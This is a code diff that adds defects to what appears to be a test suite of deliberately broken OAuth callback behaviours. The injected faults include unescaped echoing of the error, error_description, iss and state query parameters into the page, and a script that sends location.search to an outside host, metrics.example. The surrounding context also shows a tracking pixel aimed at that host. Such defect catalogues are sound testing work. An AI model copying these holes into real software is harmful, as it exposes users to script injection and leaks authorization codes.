@@ -321,6 +321,33 @@ export const answeringDefects: readonly Defect[] = [
     }),
   },
   {
+    id: 'callback-page-unescaped',
+    description: 'the page of the callback repeats what came beside the code as it is',
+    parts: ({ callbackPage }) => ({
+      callbackPage(found, url) {
+        const { searchParams } = new URL(url)
+        const names = ['error', 'error_description', 'iss', ...(found ? [] : ['state'])]
+        const said = names.map((name) => searchParams.get(name) ?? '').join(' ')
+        return callbackPage(found, url).replace('<p>', () => `<p>${said} `)
+      },
+    }),
+  },
+  {
+    id: 'denial-remembered',
+    description: 'who has denied once is not asked again',
+    parts: ({ requestsIn, takePending }) => {
+      let denied = false
+      return {
+        requestsIn: (events) => (denied ? [] : requestsIn(events)),
+        takePending(pending: Map<string, Pending>, state, url) {
+          const found = takePending(pending, state, url)
+          denied ||= found !== undefined && new URL(url).searchParams.has('error')
+          return found
+        },
+      }
+    },
+  },
+  {
     id: 'callback-posted-to-anybody',
     description: 'the page of the callback posts its address to whichever site has opened it',
     parts: ({ callbackPage }) => ({
@@ -337,6 +364,14 @@ export const answeringDefects: readonly Defect[] = [
           '</p>',
           '</p><img src="https://metrics.example/seen.gif">',
         ),
+    }),
+  },
+  {
+    id: 'pixel-by-script-on-callback-page',
+    description: 'a script on the page of the callback tells another site its address',
+    parts: ({ callbackPage }) => ({
+      callbackPage: (found, url) =>
+        `${callbackPage(found, url)}<script>new Image().src = 'https://metrics.example/seen.gif' + location.search</script>`,
     }),
   },
   {
